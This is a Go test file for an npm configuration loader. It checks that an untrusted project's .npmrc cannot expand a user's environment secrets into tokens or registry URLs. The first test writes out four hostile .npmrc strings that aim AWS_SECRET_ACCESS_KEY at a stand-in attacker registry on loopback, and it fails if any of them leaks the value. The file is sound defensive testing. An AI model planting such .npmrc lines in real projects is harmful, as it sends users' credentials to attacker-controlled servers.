package pkginstall

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

// TestProjectNPMRCGetsNoEnvironment: the project is not trusted, and its
// .npmrc must not send the user's environment (an API key, a cloud
// secret, a secret mcpbox resolves from env:) to a registry it names:
// as a token, in a registry URL's host or path, or in a scope's. The
// attack is played against a registry on loopback standing in for the
// attacker's; the packument fetch (from the host, outside any sandbox)
// must not carry the value.
func TestProjectNPMRCGetsNoEnvironment(t *testing.T) {
	const secret = "AKIAs3cretV4lueFromTheUsersEnv"
	var mu sync.Mutex
	var seen []string
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, fmt.Sprint(r.URL, r.Header))
		mu.Unlock()
		http.NotFound(w, r)
	}))
	t.Cleanup(evil.Close)
	host := strings.TrimPrefix(evil.URL, "http://")
	home := t.TempDir()
	env := map[string]string{"HOME": home, "AWS_SECRET_ACCESS_KEY": secret}
	get := func(k string) string { return env[k] }
	for _, rc := range []string{
		"registry=" + evil.URL + "/\n//" + host + "/:_authToken=${AWS_SECRET_ACCESS_KEY}\n",
		"registry=" + evil.URL + "/\n//" + host + "/:_auth=${AWS_SECRET_ACCESS_KEY}\n",
		"registry=" + evil.URL + "/${AWS_SECRET_ACCESS_KEY}/\n",
		"@x:registry=" + evil.URL + "/${AWS_SECRET_ACCESS_KEY}/\nregistry=" + evil.URL + "/\n",
	} {
		project := t.TempDir()
		if err := os.WriteFile(filepath.Join(project, ".npmrc"), []byte(rc), 0o600); err != nil {
			t.Fatal(err)
		}
		c, err := LoadNPMConfig(get, project)
		if err != nil {
			if strings.Contains(err.Error(), secret) {
				t.Errorf("%q: the error carries the value: %v", rc, err)
			}
			continue // refused: nothing is fetched
		}
		for _, name := range []string{"x", "@x/y"} {
			ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
			r := &registry{cfg: c, client: &http.Client{Timeout: 10 * time.Second}}
			_, _, ferr := r.packument(ctx, name)
			cancel()
			if ferr != nil && strings.Contains(ferr.Error(), secret) {
				t.Errorf("%q: the fetch error carries the value: %v", rc, ferr)
			}
		}
	}
	mu.Lock()
	defer mu.Unlock()
	for _, s := range seen {
		if strings.Contains(s, secret) {
			t.Errorf("the project's registry received the user's environment: %s", s)
		}
	}
}

// TestUserNPMRCExpandsEnvironment: the user's own config (and a project
// dir that is the home dir, whose .npmrc is the user's) keeps npm's
// ${VAR} expansion; a project's literal token still works.
func TestUserNPMRCExpandsEnvironment(t *testing.T) {
	home := t.TempDir()
	rc := "//npm.pkg.github.com/:_authToken=${NODE_AUTH_TOKEN}\n"
	if err := os.WriteFile(filepath.Join(home, ".npmrc"), []byte(rc), 0o600); err != nil {
		t.Fatal(err)
	}
	env := map[string]string{"HOME": home, "NODE_AUTH_TOKEN": "tok"}
	get := func(k string) string { return env[k] }
	for _, project := range []string{"", home} {
		c, err := LoadNPMConfig(get, project)
		if err != nil || c.Auth["//npm.pkg.github.com/"].Token != "tok" {
			t.Errorf("project %q: %v, %+v", project, err, c.Auth)
		}
	}
	project := t.TempDir()
	os.WriteFile(filepath.Join(project, ".npmrc"), []byte("//127.0.0.1:4873/:_authToken=literal\n"), 0o600)
	if c, err := LoadNPMConfig(get, project); err != nil || c.Auth["//127.0.0.1:4873/"].Token != "literal" {
		t.Errorf("a project's literal token: %v, %+v", err, c.Auth)
	}
}
